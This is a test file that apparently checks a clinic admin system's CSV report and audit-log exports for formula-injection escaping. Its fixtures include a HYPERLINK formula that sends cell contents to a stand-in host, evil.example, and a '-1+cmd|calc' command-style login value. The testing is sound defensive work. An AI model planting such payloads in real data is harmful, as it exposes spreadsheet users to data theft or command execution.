import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signInAll, startTestServer, type TestClient, type TestServer } from '../support/http-harness';
import { REPORT_MONTH, seedReportFixture, type ReportFixture } from '../support/report-fixture';

/**
 * Issue 16, item 5: a login name or a member's name beginning with `=` reached the report and audit
 * CSVs unescaped, to be run as a formula by the spreadsheet that opens them. Every CSV goes through
 * one helper (adapters/src/http/csv.ts) that puts a single quote before a text cell starting with
 * `= + - @`, tab or carriage return.
 */

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"開く")';

let server: TestServer;
let admin: TestClient;
let fixture: ReportFixture;

/** The answer's bytes as sent, decoded keeping the BOM. */
const download = async (client: TestClient, path: string) => {
  const response = await fetch(server.url + path, { headers: { Cookie: [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { status: response.status, body: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
};

/** The cells of a CSV line, unquoted (RFC 4180, enough for these lines). */
const cells = (line: string): string[] =>
  [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)]
    .map((m) => m[1]!)
    .slice(0, -1)
    .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));

beforeAll(async () => {
  server = await startTestServer();
  ({ admin } = await signInAll(server));
  fixture = await seedReportFixture(server.db);
});
afterAll(() => server.close());

describe('CSV formula injection', () => {
  it('neutralises a menu name starting with = in a report CSV', async () => {
    await server.db.knex('menus').where({ clinic_id: fixture.clinicA, name: 'シミ取り' }).update({ name: FORMULA });
    await server.db.knex('menu_categories').where({ clinic_id: fixture.clinicA, name: '脱毛' }).update({ name: '@脱毛' });
    const answer = await download(admin, `/api/admin/reports?type=menu-count&month=${REPORT_MONTH}&clinicId=${fixture.clinicA}&format=csv`);
    expect(answer.status).toBe(200);
    const rows = answer.body.slice(1).trimEnd().split('\r\n').map(cells);
    expect(rows).toContainEqual([`'${FORMULA}`, '美容皮膚', '3', '2']);
    expect(rows).toContainEqual(['全身脱毛', "'@脱毛", '4', '3']);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('neutralises a member name starting with = in the report of unchecked members', async () => {
    await server.db.knex('users').where({ clinic_id: fixture.clinicA, name: '会員 一郎' }).update({ name: '=1+2' });
    const json = await admin.get(`/api/admin/reports?type=users-checklist-unchecked&month=${REPORT_MONTH}&clinicId=${fixture.clinicA}`);
    expect(JSON.stringify(json.body.rows)).toContain('=1+2');
    const answer = await download(admin, `/api/admin/reports?type=users-checklist-unchecked&month=${REPORT_MONTH}&clinicId=${fixture.clinicA}&format=csv`);
    const all = answer.body.slice(1).trimEnd().split('\r\n').map(cells).flat();
    expect(all).toContain("'=1+2");
    expect(all.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('neutralises a login name typed as a formula at a failed login in the audit export', async () => {
    const attacker = server.client();
    expect((await attacker.login(`staff${FORMULA}`, 'wrong password 123')).status).toBe(401);
    expect((await attacker.login('staff-1+cmd|calc', 'wrong password 123')).status).toBe(401);
    const answer = await download(admin, '/api/admin/audit-logs/export');
    expect(answer.status).toBe(200);
    const all = answer.body.slice(1).trimEnd().split('\r\n').map(cells).flat();
    expect(all).toContain(`'${FORMULA}`);
    expect(all).toContain("'-1+cmd|calc");
    expect(all.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
